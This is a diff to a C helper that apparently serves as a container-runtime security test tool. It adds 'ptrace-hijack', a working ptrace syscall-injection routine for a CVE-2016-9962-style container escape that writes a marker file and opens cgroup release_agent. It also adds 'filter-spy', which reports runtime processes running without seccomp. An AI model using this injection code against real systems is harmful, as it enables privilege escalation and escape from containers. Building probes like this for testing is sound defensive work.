@@ -47,6 +47,10 @@
 #include <sys/types.h>
 #include <sys/un.h>
 #include <sys/utsname.h>
+#include <sys/wait.h>
+#if defined(__x86_64__)
+#include <sys/user.h>
+#endif
 #include <time.h>
 #include <unistd.h>
 
@@ -971,6 +975,235 @@ static int cmd_proc_spy(const char *name, const char *secs, const char *hostfile
 }
 
 /*
+ * `ptrace-hijack SECONDS HOSTFILE [STOPFILE]` (CVE-2016-9962 with CAP_SYS_PTRACE, issue
+ * 17): for SECONDS, or until STOPFILE exists, scans /proc for a process with
+ * CAP_SYS_ADMIN in CapEff in our user namespace, PTRACE_ATTACHes it and makes it run injected syscalls (a
+ * `syscall` instruction poked at its rip, arguments on its stack): open HOSTFILE, a path
+ * resolved from the victim's root, for appending and write "hijacked" into it; and
+ * mount the memory cgroup v1 hierarchy (fsopen/fsconfig/fsmount) and open its
+ * release_agent for writing (nothing is written). The victim's registers and text are
+ * restored and it is detached. Prints seen= (processes found with CAP_SYS_ADMIN),
+ * hijacked= (attached while stopped with CAP_SYS_ADMIN), escaped= (HOSTFILE written),
+ * cgroup= (release_agent opened) and `victim=PID CMDLINE` per hijack. x86-64 only.
+ */
+#if defined(__x86_64__)
+/* 1 if pid has CAP_SYS_ADMIN in CapEff in our user namespace (capabilities in a user
+ * namespace of its own give nothing outside it), 0 if not, -1 if unknown. */
+static int cap_sys_admin_of(int pid)
+{
+	char path[64], line[256];
+	struct stat self, other;
+	snprintf(path, sizeof path, "/proc/%d/ns/user", pid);
+	if (stat("/proc/self/ns/user", &self) < 0 || stat(path, &other) < 0)
+		return -1;
+	if (self.st_ino != other.st_ino)
+		return 0;
+	snprintf(path, sizeof path, "/proc/%d/status", pid);
+	FILE *f = fopen(path, "re");
+	int r = -1;
+	if (!f)
+		return -1;
+	while (fgets(line, sizeof line, f))
+		if (strncmp(line, "CapEff:", 7) == 0)
+			r = (strtoull(line + 7, NULL, 16) >> 21) & 1;
+	fclose(f);
+	return r;
+}
+
+static long inject(int pid, const struct user_regs_struct *base, long nr, long a1, long a2, long a3, long a4,
+		   long a5)
+{
+	struct user_regs_struct r = *base;
+	int st;
+	r.rax = nr;
+	r.orig_rax = -1; /* no syscall restart on the way out of the stop */
+	r.rdi = a1;
+	r.rsi = a2;
+	r.rdx = a3;
+	r.r10 = a4;
+	r.r8 = a5;
+	if (ptrace(PTRACE_SETREGS, pid, 0, &r) < 0 || ptrace(PTRACE_SINGLESTEP, pid, 0, 0) < 0 ||
+	    waitpid(pid, &st, __WALL) != pid || !WIFSTOPPED(st) || ptrace(PTRACE_GETREGS, pid, 0, &r) < 0)
+		return -ESRCH;
+	return (long)r.rax;
+}
+
+static int poke_bytes(int pid, unsigned long addr, const void *data, size_t len)
+{
+	for (size_t off = 0; off < len; off += sizeof(long)) {
+		long w = 0;
+		memcpy(&w, (const char *)data + off, len - off < sizeof w ? len - off : sizeof w);
+		if (ptrace(PTRACE_POKEDATA, pid, addr + off, w) < 0)
+			return -1;
+	}
+	return 0;
+}
+
+/* Returns 1 if the victim ran the injected syscalls while it had CAP_SYS_ADMIN. */
+static int hijack(int pid, const char *hostfile, int *escaped, int *cgroup)
+{
+	struct user_regs_struct base;
+	int st, hijacked = 0;
+	if (ptrace(PTRACE_ATTACH, pid, 0, 0) < 0)
+		return 0;
+	if (waitpid(pid, &st, __WALL) != pid || !WIFSTOPPED(st) || cap_sys_admin_of(pid) != 1 ||
+	    ptrace(PTRACE_GETREGS, pid, 0, &base) < 0) {
+		ptrace(PTRACE_DETACH, pid, 0, 0);
+		return 0;
+	}
+	errno = 0;
+	long text = ptrace(PTRACE_PEEKTEXT, pid, base.rip, 0);
+	if (errno != 0 || ptrace(PTRACE_POKETEXT, pid, base.rip, (text & ~0xffffL) | 0x050f) < 0) {
+		ptrace(PTRACE_DETACH, pid, 0, 0);
+		return 0;
+	}
+	/* Strings below the victim's stack pointer, past the red zone. */
+	struct {
+		char path[PATH_MAX];
+		char cgroup[8], memory[8], agent[16], msg[16];
+	} s;
+	memset(&s, 0, sizeof s);
+	snprintf(s.path, sizeof s.path, "%s", hostfile);
+	strcpy(s.cgroup, "cgroup");
+	strcpy(s.memory, "memory");
+	strcpy(s.agent, "release_agent");
+	strcpy(s.msg, "hijacked\n");
+	unsigned long at = (base.rsp - 8192 - sizeof s) & ~15UL;
+	if (poke_bytes(pid, at, &s, sizeof s) == 0) {
+		hijacked = 1;
+#define ADDR(field) (long)(at + offsetof(__typeof__(s), field))
+		long fd = inject(pid, &base, SYS_openat, AT_FDCWD, ADDR(path), O_WRONLY | O_APPEND, 0, 0);
+		if (fd >= 0) {
+			if (inject(pid, &base, SYS_write, fd, ADDR(msg), 9, 0, 0) == 9)
+				(*escaped)++;
+			inject(pid, &base, SYS_close, fd, 0, 0, 0, 0);
+		}
+		long fs = inject(pid, &base, 430 /* fsopen */, ADDR(cgroup), 0, 0, 0, 0);
+		if (fs >= 0) {
+			long m = -1;
+			if (inject(pid, &base, 431 /* fsconfig */, fs, 0 /* SET_FLAG */, ADDR(memory), 0, 0) == 0 &&
+			    inject(pid, &base, 431, fs, 6 /* CMD_CREATE */, 0, 0, 0) == 0)
+				m = inject(pid, &base, 432 /* fsmount */, fs, 0, 0, 0, 0);
+			if (m >= 0) {
+				long ra = inject(pid, &base, SYS_openat, m, ADDR(agent), O_WRONLY, 0, 0);
+				if (ra >= 0) {
+					(*cgroup)++;
+					inject(pid, &base, SYS_close, ra, 0, 0, 0, 0);
+				}
+				inject(pid, &base, SYS_close, m, 0, 0, 0, 0);
+			}
+			inject(pid, &base, SYS_close, fs, 0, 0, 0, 0);
+		}
+#undef ADDR
+	}
+	ptrace(PTRACE_POKETEXT, pid, base.rip, text);
+	ptrace(PTRACE_SETREGS, pid, 0, &base);
+	ptrace(PTRACE_DETACH, pid, 0, 0);
+	return hijacked;
+}
+#endif
+
+static int cmd_ptrace_hijack(const char *secs, const char *hostfile, const char *stopfile)
+{
+#if defined(__x86_64__)
+	double deadline = now_seconds() + strtod(secs, NULL);
+	int seen = 0, hijacked = 0, escaped = 0, cgroup = 0;
+	static unsigned char counted[1 << 16], done[1 << 16];
+	char cmdline[256];
+	/* The test watches for victims while the attack runs. */
+	setvbuf(stdout, NULL, _IOLBF, 0);
+	while (now_seconds() < deadline && !(stopfile && access(stopfile, F_OK) == 0)) {
+		DIR *d = opendir("/proc");
+		struct dirent *de;
+		if (!d)
+			return fail("opendir", "/proc");
+		while ((de = readdir(d))) {
+			if (!is_pid_name(de->d_name))
+				continue;
+			int pid = atoi(de->d_name);
+			if (pid == getpid() || pid == 1 || pid >= (1 << 16) || done[pid] || cap_sys_admin_of(pid) != 1)
+				continue;
+			if (!counted[pid]) {
+				counted[pid] = 1;
+				seen++;
+			}
+			read_cmdline(pid, cmdline, sizeof cmdline);
+			if (hijack(pid, hostfile, &escaped, &cgroup)) {
+				done[pid] = 1;
+				hijacked++;
+				printf("victim=%d %s\n", pid, cmdline);
+			}
+		}
+		closedir(d);
+	}
+	printf("seen=%d\nhijacked=%d\nescaped=%d\ncgroup=%d\n", seen, hijacked, escaped, cgroup);
+	return 0;
+#else
+	(void)secs;
+	(void)hostfile;
+	(void)stopfile;
+	fprintf(stderr, "ptrace-hijack: x86-64 only\n");
+	return 1;
+#endif
+}
+
+/*
+ * `filter-spy NAME SECONDS STOPFILE`: for SECONDS, or until STOPFILE exists, reads the
+ * Seccomp: line of every process whose cmdline contains NAME (the runtime's, before
+ * they execute the container's program). Prints seen= (such processes) and
+ * unfiltered= (seen with Seccomp: 0 at least once), and `unfiltered=PID CMDLINE`.
+ */
+static int cmd_filter_spy(const char *name, const char *secs, const char *stopfile)
+{
+	double deadline = now_seconds() + strtod(secs, NULL);
+	int seen = 0, unfiltered = 0;
+	static unsigned char counted[1 << 16], bad[1 << 16];
+	char cmdline[256], path[64], line[256];
+	setvbuf(stdout, NULL, _IOLBF, 0);
+	while (now_seconds() < deadline && access(stopfile, F_OK) != 0) {
+		DIR *d = opendir("/proc");
+		struct dirent *de;
+		if (!d)
+			return fail("opendir", "/proc");
+		while ((de = readdir(d))) {
+			if (!is_pid_name(de->d_name))
+				continue;
+			int pid = atoi(de->d_name);
+			if (pid == getpid() || pid >= (1 << 16) || bad[pid])
+				continue;
+			read_cmdline(pid, cmdline, sizeof cmdline);
+			if (!strstr(cmdline, name))
+				continue;
+			snprintf(path, sizeof path, "/proc/%d/status", pid);
+			FILE *f = fopen(path, "re");
+			if (!f)
+				continue;
+			int mode = -1;
+			while (fgets(line, sizeof line, f))
+				if (strncmp(line, "Seccomp:", 8) == 0)
+					mode = atoi(line + 8);
+			fclose(f);
+			/* Still the runtime's? (it may have executed the program meanwhile) */
+			read_cmdline(pid, cmdline, sizeof cmdline);
+			if (mode < 0 || !strstr(cmdline, name))
+				continue;
+			if (!counted[pid]) {
+				counted[pid] = 1;
+				seen++;
+			}
+			if (mode == 0) {
+				bad[pid] = 1;
+				unfiltered++;
+				printf("unfiltered=%d %s\n", pid, cmdline);
+			}
+		}
+		closedir(d);
+	}
+	printf("seen=%d\nunfiltered=%d\n", seen, unfiltered);
+	return 0;
+}
+
+/*
  * `abstract-unix SUBSTR SECONDS`: for SECONDS, reads /proc/net/unix and tries to
  * connect to every abstract socket whose name contains SUBSTR. Prints abstract=
  * (distinct abstract names seen), matching=, connected=, and `name=@NAME` per match.
@@ -1154,7 +1387,8 @@ static void usage(FILE *out)
 	      "  signal-wait SIG [READYFILE]\n"
 	      "  exchange-race DIR LINK... | exe-attack FIFO SECONDS\n"
 	      "  proc-spy NAME SECONDS HOSTFILE | abstract-unix SUBSTR SECONDS\n"
-	      "  release-agent [userns]\n",
+	      "  release-agent [userns] | ptrace-hijack SECONDS HOSTFILE [STOPFILE]\n"
+	      "  filter-spy NAME SECONDS STOPFILE\n",
 	      out);
 }
 
@@ -1293,6 +1527,14 @@ int main(int argc, char **argv)
 	if (strcmp(cmd, "proc-spy") == 0) {
 		NEED(3);
 		return cmd_proc_spy(a1, argv[3], argv[4]);
+	}
+	if (strcmp(cmd, "ptrace-hijack") == 0) {
+		NEED(2);
+		return cmd_ptrace_hijack(a1, argv[3], nargs > 2 ? argv[4] : NULL);
+	}
+	if (strcmp(cmd, "filter-spy") == 0) {
+		NEED(3);
+		return cmd_filter_spy(a1, argv[3], argv[4]);
 	}
 	if (strcmp(cmd, "abstract-unix") == 0) {
 		NEED(2);
